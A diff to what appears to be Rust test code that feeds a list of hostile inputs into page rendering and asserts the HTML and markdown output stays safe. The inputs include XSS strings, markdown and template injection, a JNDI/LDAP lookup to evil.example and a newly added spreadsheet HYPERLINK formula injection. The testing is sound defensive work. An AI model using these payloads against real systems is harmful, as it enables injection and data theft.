@@ -8,7 +8,7 @@ use crate::facts::dossier;
 use crate::story::{contained, evaluated};
 use crate::world::{Strangers, at};
 
-const HOSTILE: [&str; 9] = [
+pub(crate) const HOSTILE: [&str; 10] = [
     "<script>alert(1)</script>",
     "\"><img src=x onerror=alert(1)>",
     "' onmouseover='alert(1)",
@@ -18,6 +18,7 @@ const HOSTILE: [&str; 9] = [
     "| cell \\| cell |\n| --- |\n# heading",
     "`code` ``` [link](https://evil.example) @everyone ![x](//evil.example/x.png) &lt;b&gt;",
     "{{ 7 * 7 }} {% raw %} { $user } ${jndi:ldap://evil.example/a}",
+    "=HYPERLINK(\"//evil.example\";\"x\")\t@SUM(1)",
 ];
 
 fn pages(case: &Case) -> Vec<(Lang, String, String)> {
@@ -53,7 +54,7 @@ pub(crate) fn tags(html: &str) -> Vec<String> {
         .collect()
 }
 
-fn assert_html_is_ours(html: &str, wanted: &[String]) {
+pub(crate) fn assert_html_is_ours(html: &str, wanted: &[String]) {
     let tags = tags(html);
     let known: std::collections::BTreeSet<&String> = wanted.iter().collect();
     for tag in &tags {
@@ -70,8 +71,18 @@ fn assert_html_is_ours(html: &str, wanted: &[String]) {
     );
 }
 
-/// Every row of a table has the cells that its head has, and code spans are closed on their line.
+/// As [`assert_markdown_cells`], and no value made a line of its own.
 fn assert_markdown_is_ours(markdown: &str, wanted_lines: usize) {
+    assert_markdown_cells(markdown);
+    assert_eq!(
+        markdown.lines().count(),
+        wanted_lines,
+        "a value made a line of its own"
+    );
+}
+
+/// Every row of a table has the cells that its head has, and code spans are closed on their line.
+pub(crate) fn assert_markdown_cells(markdown: &str) {
     assert!(
         !markdown.chars().any(|c| c.is_control() && c != '\n'),
         "a raw control character"
@@ -89,11 +100,6 @@ fn assert_markdown_is_ours(markdown: &str, wanted_lines: usize) {
             "a cell too many or too few: {line}"
         );
     }
-    assert_eq!(
-        markdown.lines().count(),
-        wanted_lines,
-        "a value made a line of its own"
-    );
     for line in outside_code(markdown).lines() {
         assert!(
             !line.contains("](") && !line.contains('@') && !line.contains("://"),
